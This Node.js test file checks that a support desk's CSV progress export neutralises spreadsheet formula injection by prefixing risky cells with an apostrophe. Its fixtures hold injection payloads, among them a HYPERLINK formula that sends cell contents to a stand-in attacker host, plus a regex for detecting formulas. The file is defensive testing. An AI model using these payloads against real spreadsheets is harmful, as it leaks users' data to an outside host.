'use strict';
// CSV exports never hand a spreadsheet a formula: a cell that starts with
// TAB, CR or LF, or with = + - @ after leading white space, is prefixed with
// an apostrophe (OWASP, CSV injection). Names and subjects reach the
// progress CSV through the API, so that is the way in tested here (the API
// stores them without the ASCII white space around them, as the portal
// does; a TAB, CR or LF first is defused by the same guard: test_csv.c).
const test = require('node:test');
const assert = require('node:assert/strict');
const L = require('./lib');
const A = require('./agent_lib');

const FILE = 123;
const T = A.tag('CF');

/** Parses CSV text (RFC 4180 quoting) into rows of cells. */
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += ch;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

// what a spreadsheet would take for a formula: after leading white space
// (ASCII and Unicode), = + - @ or their full-width forms; or TAB/CR/LF first
const FORMULA = /^(?:[\t\r\n]|[\s\u00a0\u3000\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20])/;

const CASES = {
  tab: { subject: `\t=HYPERLINK("http://evil.example/?"&A1,"${T} 点击")`, name: '客户甲' },
  lf: { subject: `\n=1+1 ${T}`, name: '客户乙' },
  cr: { subject: `\r+SUM(1) ${T}`, name: '客户丙' },
  spaces: { subject: `   -2+3 ${T}`, name: ' \t@SUM(A1)' },
  wide: { subject: `＝1+1 ${T}`, name: '\u3000=cmd' },
  plain: { subject: `${T} 打印机 E-42`, name: '王经理' },
};

test('names and subjects that would start a formula are defused; others are left as they are', async () => {
  const made = {};
  for (const [k, c] of Object.entries(CASES)) {
    made[k] = await A.createTicket({ subject: c.subject, customer: { name: c.name, email: `${k}-${T.toLowerCase()}@example.com` } });
  }
  const sup = await A.desk('supervisor', L.addr(FILE, 1));
  const res = await sup.get('/agent/progress.csv');
  assert.equal(res.status, 200);
  const rows = parseCsv(res.raw.subarray(3).toString('utf8'));
  const header = rows[0];
  const col = { customer: header.indexOf('客户'), subject: header.indexOf('主题') };
  for (const [k, c] of Object.entries(CASES)) {
    const row = rows.find((r) => r[0] === made[k].number);
    assert.ok(row, `${k}: in the CSV`);
    for (const [field, sent] of [['subject', c.subject], ['customer', c.name]]) {
      const cell = row[col[field]];
      // stored as the portal stores it: without the ASCII white space around it
      const given = sent.replace(/^[ \t\r\n]+|[ \t\r\n]+$/g, '');
      assert.doesNotMatch(cell, FORMULA, `${k} ${field}: ${JSON.stringify(cell)} would run as a formula`);
      if (FORMULA.test(given)) assert.equal(cell, `'${given}`, `${k} ${field}: the text itself follows the apostrophe`);
      else assert.equal(cell, given, `${k} ${field}: harmless text is not touched`);
    }
  }
  for (const r of rows) for (const cell of r) assert.doesNotMatch(cell, FORMULA, `no cell of the export starts a formula: ${JSON.stringify(cell)}`);
});
